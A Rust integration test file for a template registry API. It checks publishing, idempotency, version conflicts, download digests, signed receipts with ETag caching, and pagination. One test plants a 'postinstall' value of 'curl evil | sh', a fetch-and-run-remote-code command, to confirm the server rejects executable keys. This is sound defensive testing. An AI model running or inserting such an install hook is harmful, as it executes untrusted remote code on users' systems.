//! Templates: the fixtures' verdicts, atomic and idempotent publish, downloads of the validated package, listing
//! and pagination, and signed template receipts.

use reqwest::StatusCode;
use serde_json::Value;
use verifier::receipt::ReceiptOutcome;
use verifier::template_receipt::{TemplatePayload, TemplateReceipt};

use crate::helpers::{TOKEN, TestApp, error_of, fixture};
use crate::publish::keys_of;

pub(crate) async fn publish_template(app: &TestApp, body: Vec<u8>) -> reqwest::Response {
    app.client
        .post(format!("{}/templates", app.api))
        .bearer_auth(TOKEN)
        .body(body)
        .send()
        .await
        .unwrap()
}

fn expected() -> Value {
    serde_json::from_slice(&fixture("expected.json")).unwrap()
}

async fn fixture_verdicts_and_receipts(app: &TestApp) {
    let e = expected();
    let keys = keys_of(app).await;
    for name in e["template_expectations"]["accepted"].as_array().unwrap() {
        let name = name.as_str().unwrap();
        let response = publish_template(app, fixture(name)).await;
        assert_eq!(response.status(), StatusCode::CREATED, "{name}");
        let body: Value = response.json().await.unwrap();
        let record = &body["template"];
        let id = record["template_id"].as_str().unwrap();
        let version = record["template_version"].as_str().unwrap();
        // What /download serves is the validated package, and its digest is the recorded one.
        let package = app
            .get_json(
                &format!("/templates/{id}/{version}/download"),
                StatusCode::OK,
            )
            .await;
        assert_eq!(
            verifier::canonical::digest(&package),
            record["package_digest"].as_str().unwrap(),
            "{name}"
        );
        assert_eq!(package["manifest"], record["manifest"], "{name}");
        assert_eq!(package["template"], record["template"], "{name}");
        let receipt: TemplateReceipt = serde_json::from_value(
            app.get_json(
                &format!("/templates/{id}/{version}/receipt"),
                StatusCode::OK,
            )
            .await,
        )
        .unwrap();
        let payload = TemplatePayload {
            template_id: id.to_owned(),
            template_version: version.to_owned(),
            manifest_digest: verifier::canonical::digest(&record["manifest"]),
            template_digest: verifier::canonical::digest(&record["template"]),
            package_digest: verifier::canonical::digest(&package),
            issued_at: receipt.issued_at.clone(),
            publisher_id: "studio-local".into(),
            publisher_type: "studio".into(),
        };
        assert!(
            matches!(
                receipt.verify(&payload, &keys),
                ReceiptOutcome::Verified { .. }
            ),
            "{name}"
        );
        // A second read answers the bytes kept in the cache: still the signed receipt, its id as the ETag, and 304
        // for a client that holds it.
        let path = format!("{}/templates/{id}/{version}/receipt", app.api);
        let again = app.client.get(&path).send().await.unwrap();
        let etag = again.headers()[reqwest::header::ETAG].clone();
        let id_tag = receipt.receipt_id.trim_start_matches("sha256:");
        assert_eq!(etag.to_str().unwrap(), format!("\"{id_tag}\""), "{name}");
        let kept: TemplateReceipt = serde_json::from_slice(&again.bytes().await.unwrap()).unwrap();
        assert!(
            matches!(
                kept.verify(&payload, &keys),
                ReceiptOutcome::Verified { .. }
            ),
            "{name}"
        );
        let revalidated = app
            .client
            .get(&path)
            .header(reqwest::header::IF_NONE_MATCH, etag)
            .send()
            .await
            .unwrap();
        assert_eq!(revalidated.status(), StatusCode::NOT_MODIFIED, "{name}");
    }
    for (name, _) in e["template_expectations"]["rejected_400"]
        .as_object()
        .unwrap()
    {
        let response = publish_template(app, fixture(name)).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{name}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["code"], "invalid_package");
        assert_eq!(
            body["problems"][0]["code"], "template_document_too_large",
            "{body}"
        );
        assert!(
            body["problems"][0]["path"]
                .as_str()
                .unwrap()
                .starts_with("template.documents["),
            "{body}"
        );
    }
}

pub(crate) fn small_template(version: &str) -> Value {
    let mut request: Value = serde_json::from_slice(&fixture(
        "templates/linear-fronting-starter-0.1.0.anip-template.json",
    ))
    .unwrap();
    request["template_version"] = Value::from(version);
    request["manifest"]["package_version"] = Value::from(version);
    let manifest = request["manifest"].clone();
    if let Some(package) = request.get_mut("package").and_then(Value::as_object_mut) {
        package.insert("package_version".into(), Value::from(version));
        package.insert("manifest".into(), manifest);
    }
    request
}

async fn idempotent_conflicting_and_rejected(app: &TestApp) {
    let body = serde_json::to_vec(&small_template("9.0.0")).unwrap();
    assert_eq!(
        publish_template(app, body.clone()).await.status(),
        StatusCode::CREATED
    );
    assert_eq!(publish_template(app, body).await.status(), StatusCode::OK);
    let mut changed = small_template("9.0.0");
    changed["manifest"]["industry"] = Value::from("something else");
    changed["package"]["manifest"] = changed["manifest"].clone();
    let (status, code) =
        error_of(publish_template(app, serde_json::to_vec(&changed).unwrap()).await).await;
    assert_eq!(
        (status, code.as_str()),
        (StatusCode::CONFLICT, "version_exists")
    );
    // An install-script key anywhere is refused with its path.
    let mut scripted = small_template("9.1.0");
    scripted["template"]["postinstall"] = Value::from("curl evil | sh");
    let response = publish_template(app, serde_json::to_vec(&scripted).unwrap()).await;
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["code"], "invalid_package");
    assert!(
        body["problems"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["code"] == "executable_key"),
        "{body}"
    );
    // A served package that differs from what was validated is refused.
    let mut smuggled = small_template("9.2.0");
    smuggled["package"]["template"]["documents"] = Value::Array(vec![]);
    let body: Value = publish_template(app, serde_json::to_vec(&smuggled).unwrap())
        .await
        .json()
        .await
        .unwrap();
    assert!(
        body["problems"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["code"] == "package_mismatch"),
        "{body}"
    );
    // Without a token nothing is published.
    let response = app
        .client
        .post(format!("{}/templates", app.api))
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
}

async fn listing_downloads_and_pages(app: &TestApp) {
    for version in ["1.0.0", "1.1.0", "1.2.0"] {
        let body = serde_json::to_vec(&small_template(version)).unwrap();
        assert_eq!(
            publish_template(app, body).await.status(),
            StatusCode::CREATED
        );
    }
    let id = small_template("1.0.0")["template_id"]
        .as_str()
        .unwrap()
        .to_owned();
    app.get_json(&format!("/templates/{id}/1.1.0/download"), StatusCode::OK)
        .await;
    // A HEAD counts nothing.
    let head = app
        .client
        .head(format!("{}/templates/{id}/1.1.0/download", app.api))
        .send()
        .await
        .unwrap();
    assert_eq!(head.status(), StatusCode::OK);
    app.get_json(&format!("/templates/{id}/1.1.0/download"), StatusCode::OK)
        .await;
    let record = app
        .get_json(&format!("/templates/{id}/1.1.0"), StatusCode::OK)
        .await;
    assert_eq!(record["download_count"], 2);
    let all = app.get_json("/templates", StatusCode::OK).await;
    let versions: Vec<&str> = all["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["template_version"].as_str().unwrap())
        .collect();
    assert_eq!(versions[0], "1.1.0", "most downloaded first");
    assert!(all["items"][0]["manifest"].is_object());
    let first = app.get_json("/templates?limit=2", StatusCode::OK).await;
    assert_eq!(first["items"].as_array().unwrap().len(), 2);
    let cursor = first["next_cursor"].as_str().unwrap();
    let second = app
        .get_json(
            &format!("/templates?limit=2&cursor={cursor}"),
            StatusCode::OK,
        )
        .await;
    assert_eq!(second["items"].as_array().unwrap().len(), 1);
    // Pages run in publication order: downloads between two page requests move no version across pages.
    let mut between = vec![format!("/templates/{id}/1.2.0/download")];
    let paged = crate::reads::walk(app, "/templates", "template_version", 1, &mut between).await;
    assert_eq!(paged, ["1.0.0", "1.1.0", "1.2.0"]);
    let (status, code) = error_of(app.get(&format!("/templates/{id}/7.7.7")).await).await;
    assert_eq!(
        (status, code.as_str()),
        (StatusCode::NOT_FOUND, "template_not_found")
    );
}

/// The UI card's latest template version is the highest even when more than the 50 versions a card reads were
/// published after it.
async fn the_ui_latest_is_found_behind_fifty_newer_versions(app: &TestApp) {
    for version in std::iter::once("9.0.0".to_owned()).chain((0..=50).map(|p| format!("1.0.{p}"))) {
        let body = serde_json::to_vec(&small_template(&version)).unwrap();
        let response = publish_template(app, body).await;
        assert_eq!(response.status(), StatusCode::CREATED, "{version}");
    }
    let body = app
        .client
        .get(format!("{}/registry/templates", app.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        body.contains("<span class=\"version\">9.0.0</span>"),
        "{body}"
    );
}

crate::on_both_stores!(
    fixture_verdicts_and_receipts,
    idempotent_conflicting_and_rejected,
    listing_downloads_and_pages,
    the_ui_latest_is_found_behind_fifty_newer_versions
);
